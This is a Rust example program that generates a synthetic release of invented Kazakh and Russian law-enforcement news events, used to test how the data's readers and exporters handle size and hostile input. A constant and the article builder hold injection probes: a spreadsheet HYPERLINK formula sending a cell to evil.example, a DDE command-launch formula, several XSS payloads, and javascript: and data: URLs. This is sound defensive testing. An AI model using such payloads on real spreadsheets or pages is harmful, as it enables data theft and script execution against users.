//! A release of made-up rows with the size and shape of a real one, for measuring and testing its readers.
//!
//! `cargo run --example synthetic_release -- FOLDER [EVENTS]` writes `FOLDER/release/2026.11-synthetic/`, by
//! default of 100,000 events. The first rows carry markup, formulas and script addresses where texts stand.
#![allow(clippy::disallowed_methods, reason = "an example writes files")]

use chrono::{DateTime, Days, NaiveDate, Utc};
use dalel::knowledge::Knowledge;
use dalel::publish::table::{Footer, write_records};
use dalel::publish::{ReleaseSpec, Version, release};
use dalel::record::{Article, CodeLists, Columnar, DatePrecision, Event, Mention, Qualifier, Scope, Span, Story};
use std::error::Error;
use std::path::{Path, PathBuf};

/// Texts that must stay texts wherever they are shown or exported.
const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"probe\") probe",
    "<img src=x onerror=\"window.probed=1\"> probe",
    "<script>window.probed=2</script> probe",
    "+cmd|'/c calc'!A0 probe",
    "@SUM(1+1)*probe \"quoted\", and; separated",
    "</title></script><svg onload=window.probed=3> \u{202e}probe",
];

/// A small linear congruential generator: the same rows in every run.
struct Chance(u64);

impl Chance {
    fn below(&mut self, below: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % below
    }

    /// Many small ones, few large ones.
    fn skewed(&mut self, below: usize) -> usize {
        let (a, b) = (self.below(below), self.below(below));
        a * b / below
    }
}

fn id(prefix: &str, n: usize) -> String {
    format!("{prefix}-{:016x}", (n as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15))
}

fn moment(day: usize) -> Option<DateTime<Utc>> {
    let day = NaiveDate::from_ymd_opt(2021, 1, 1)? + Days::new(day as u64);
    Some(day.and_hms_opt(6, 0, 0)?.and_utc())
}

/// Event type, object, unit, offence, largest value, wording.
const KINDS: [(&str, &str, &str, &str, usize, &str); 12] = [
    (
        "detention",
        "person",
        "person",
        "theft",
        30,
        "сотрудники полиции задержали подозреваемых в кражах, всего человек:",
    ),
    ("detention", "person", "person", "drugs", 12, "есірткі тасымалдады деген күдікпен ұсталған адамдар саны –"),
    ("seizure", "heroin", "kg", "drugs", 60, "в ходе обыска изъят героин, вес которого составил килограммов:"),
    ("seizure", "cannabis", "kg", "drugs", 900, "из незаконного оборота изъята марихуана, общий вес в килограммах:"),
    ("seizure", "mephedrone", "kg", "drugs", 40, "полицейлер тәркілеген мефедронның салмағы, келі:"),
    ("seizure", "fuel", "l", "shadow_economy", 80_000, "изъято горюче-смазочных материалов без документов, литров:"),
    ("seizure", "money", "KZT", "corruption", 90_000_000, "при передаче денег изъята сумма, тенге:"),
    ("conviction", "person", "person", "fraud", 9, "суд признал виновными участников мошеннической схемы, человек:"),
    (
        "case_opened",
        "criminal_case",
        "case",
        "corruption",
        40,
        "Антикоррупционной службой начаты досудебные расследования, дел:",
    ),
    ("damage", "money", "KZT", "embezzlement", 900_000_000, "ущерб государству по данным прокуратуры составил, тенге:"),
    ("offence_detected", "offence", "offence", "smuggling", 120, "на границе выявлены факты контрабанды, всего:"),
    (
        "facility_dismantled",
        "drug_lab",
        "item",
        "drugs",
        4,
        "ликвидированы подпольные лаборатории по изготовлению синтетики:",
    ),
];

struct Tables {
    articles: Vec<Article>,
    mentions: Vec<Mention>,
    events: Vec<Event>,
    stories: Vec<Story>,
}

fn tables(count: usize, codes: &CodeLists) -> Tables {
    const DAYS: usize = 2100;
    let regions: Vec<&str> = codes.list("region").map(|list| list.codes().collect()).unwrap_or_default();
    let mut chance = Chance(1);
    let (articles, stories) = (count / 2 + 40, count / 4 + 20);
    let story_of = |article: usize| article * stories / articles;
    let day_of = |article: usize| article * DAYS / articles;
    let mut tables = Tables {
        articles: (0..articles).map(|n| article(n, story_of(n), moment(day_of(n)))).collect(),
        mentions: Vec::new(),
        events: Vec::new(),
        stories: Vec::new(),
    };
    for n in 0..count {
        let (event_type, object, unit, offence, most, words) = KINDS[chance.below(KINDS.len())];
        let first = n * (articles - 40) / count;
        let value = (chance.below(12) > 0).then(|| 1.0 + chance.skewed(most) as f64);
        let shown = value.map_or_else(|| "не названо".to_owned(), |value| value.to_string());
        let region = regions[chance.skewed(regions.len())];
        let aggregate = chance.below(9) == 0;
        let outlets = if n < 40 { 9 } else { 1 + chance.skewed(5) };
        let mentions: Vec<Mention> = (0..outlets)
            .map(|k| {
                let evidence = match HOSTILE.get(n) {
                    Some(hostile) => (*hostile).to_owned(),
                    None => format!("{words} {shown} (сообщение № {} от {})", chance.below(90_000), 2 + k),
                };
                Mention {
                    mention_id: id("m", n * 16 + k),
                    article_id: id("a", first + k),
                    event_id: Some(id("e", n)),
                    event_type: event_type.into(),
                    object: object.into(),
                    value,
                    unit: value.map(|_| unit.into()),
                    qualifier: Qualifier::ALL[chance.skewed(4)],
                    region: if chance.below(8) == 0 { Vec::new() } else { vec![region.into()] },
                    locality: (chance.below(3) > 0).then(|| format!("Кент-{}", chance.below(400))),
                    offence: Some(offence.into()),
                    scope: if aggregate { Scope::Aggregate } else { Scope::Incident },
                    date_start: moment(day_of(first)).filter(|_| !aggregate).map(|at| at.date_naive()),
                    date_end: moment(day_of(first)).filter(|_| !aggregate).map(|at| at.date_naive()),
                    date_precision: (!aggregate).then_some(DatePrecision::Day),
                    agency: vec![if n.is_multiple_of(3) { "afm" } else { "police" }.into()],
                    articles: if n.is_multiple_of(4) { vec!["УК 297 ч.3".into()] } else { Vec::new() },
                    evidence_span: Span::new(40, 40 + evidence.len() as u32),
                    evidence,
                    trigger: "изъято".into(),
                    rule_id: format!("ru.{event_type}.made_up"),
                    confidence: 0.5 + chance.below(50) as f32 / 100.0,
                    ..Mention::default()
                }
            })
            .collect();
        tables.events.push(Event {
            event_id: id("e", n),
            merged: mentions[0].clone(),
            value_min: value,
            value_max_reported: value.map(|value| if n.is_multiple_of(50) { value * 1.5 } else { value }),
            value_consensus: value,
            is_disputed: value.is_some() && n.is_multiple_of(50),
            n_mentions: outlets as u32,
            n_outlets: outlets as u32,
            first_published_at: moment(day_of(first)),
            last_published_at: moment(day_of(first + outlets - 1)),
            story_id: Some(id("s", story_of(first))),
            part_of: (n > 40 && n.is_multiple_of(25)).then(|| id("e", n - 1)),
            mention_ids: mentions.iter().map(|mention| mention.mention_id.clone()).collect(),
            ..Event::default()
        });
        tables.mentions.extend(mentions);
    }
    tables.stories = (0..stories).map(|n| story(n, moment(n * DAYS / stories))).collect();
    tables
}

fn article(n: usize, story: usize, published_at: Option<DateTime<Utc>>) -> Article {
    let url = match n {
        0 => "javascript:window.probed=4".to_owned(),
        1 => "data:text/html,<script>window.probed=5</script>".to_owned(),
        n => format!("https://outlet-{}.example/news/{n}", n % 37),
    };
    Article {
        article_id: id("a", n),
        canonical_url: Some(url.clone()),
        url: Some(url),
        outlet: Some(format!("outlet-{}.example", n % 37)),
        language: Some(if n.is_multiple_of(4) { "kk" } else { "ru" }.into()),
        title: Some(
            HOSTILE.get(n).map_or_else(|| format!("Сводка правоохранительных органов № {n}"), |text| (*text).into()),
        ),
        published_at,
        published_precision: Some(DatePrecision::Minute),
        content_hash: format!("{n:064x}"),
        story_id: Some(id("s", story)),
        ..Article::default()
    }
}

fn story(n: usize, first_published_at: Option<DateTime<Utc>>) -> Story {
    Story {
        story_id: id("s", n),
        title: Some(HOSTILE.get(n).map_or_else(|| format!("Задержание и изъятие, эпизод {n}"), |text| (*text).into())),
        n_articles: if n < 12 { 40 - n as u32 } else { 2 },
        n_outlets: if n < 12 { 20 - n as u32 } else { 2 },
        first_published_at,
        languages: vec!["kk".into(), "ru".into()],
    }
}

fn write<R: Columnar>(folder: &Path, rows: &[R]) -> Result<(), Box<dyn Error>> {
    write_records(&folder.join(R::TABLE.name()).join("part-0.parquet"), rows, &Footer::default())?;
    Ok(())
}

fn main() -> Result<(), Box<dyn Error>> {
    let mut arguments = std::env::args().skip(1);
    let folder = PathBuf::from(arguments.next().ok_or("usage: synthetic_release FOLDER [EVENTS]")?);
    let count = arguments.next().map_or(Ok(100_000), |text| text.parse())?;
    let knowledge = Knowledge::embedded();
    let tables = tables(count, &CodeLists::load(&knowledge)?);
    write(&folder, &tables.articles)?;
    write(&folder, &tables.mentions)?;
    write(&folder, &tables.events)?;
    write(&folder, &tables.stories)?;
    let mut spec = ReleaseSpec::new(Version::try_from("2026.11-synthetic".to_owned())?);
    spec.title = Some("dalel: made-up rows, to try readers".into());
    spec.sample = true;
    let released = release(&folder, &folder.join("release"), &spec, &knowledge)?;
    println!("{}", released.path.display());
    Ok(())
}
